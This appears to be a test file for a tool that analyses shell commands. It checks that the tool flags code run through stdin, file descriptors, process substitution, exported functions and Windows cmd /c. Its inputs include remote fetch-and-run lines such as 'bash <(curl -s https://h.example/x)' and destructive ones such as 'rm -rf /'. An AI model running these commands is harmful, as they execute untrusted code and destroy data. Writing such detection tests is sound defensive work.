// Code that reaches a shell through open files, process substitutions and the environment.
import assert from 'node:assert/strict';
import { createTester, type Tester } from '../../../helpers/analysis.ts';

describe('code from streams and the environment', () => {
  let tester: Tester;

  before(async () => {
    tester = await createTester();
  });

  const programs = (text: string): (string | undefined)[] =>
    tester.read(text).invocations.map((invocation) => invocation.program);
  const codes = (text: string): string[] =>
    tester.read(text).notUnderstood.map((problem) => problem.code);

  it('source /dev/stdin – constant text is read', () => {
    assert.deepEqual(programs(". /dev/stdin <<< 'rm x'"), ['.', 'rm']);
    assert.deepEqual(programs('source /dev/fd/0 <<X\nrm y\nX\n'), ['source', 'rm']);
  });

  for (const line of [
    "exec 3<<<'rm x'; source /dev/fd/3",
    "exec {fd}<<<'rm x'; . /dev/fd/$fd",
    'bash <(curl -s https://h.example/x)',
    'source <(kubectl completion bash)',
    'python3 <(curl -s https://h.example/x)',
    'bash /proc/self/fd/3 3<f',
  ]) {
    it(`${line} is not understood`, () => {
      assert.deepEqual(codes(line), ['unseen-code']);
    });
  }

  it('env NAME%%=… – a function for the started shell is not understood, the program is named', () => {
    const line = "env 'BASH_FUNC_f%%=() { rm x; }' bash -c f";
    assert.deepEqual(codes(line), ['unsupported-construct']);
    assert.deepEqual(programs(line), ['env', 'bash', 'f']);
  });

  it('mapfile -C – its line is data, so the callback is understood', () => {
    assert.deepEqual(codes("mapfile -C 'rm -rf /' -c 1 a <<< line"), []);
  });

  it('python -m – the words behind the module are its own', () => {
    assert.deepEqual(codes('python -m foo --source /x'), []);
  });

  it('py -3 -c – the code is seen', () => {
    const { inlineCode } = tester.read("py -3 -c 'import os'");
    assert.deepEqual(
      inlineCode.map(({ code }) => code),
      ['import os'],
    );
  });

  it('cmd – a program of that name is a program, cmd /c is the shell of Windows', () => {
    assert.deepEqual(codes('cmd | tee log'), []);
    assert.deepEqual(codes('cmd /c del x'), ['unseen-code']);
    assert.deepEqual(codes('cmd.exe /c del x'), ['unseen-code']);
    assert.deepEqual(codes('cmd "$x"'), ['unseen-code']);
  });

  it('parallel --version starts nothing', () => {
    assert.deepEqual(codes('parallel --version'), []);
  });
});
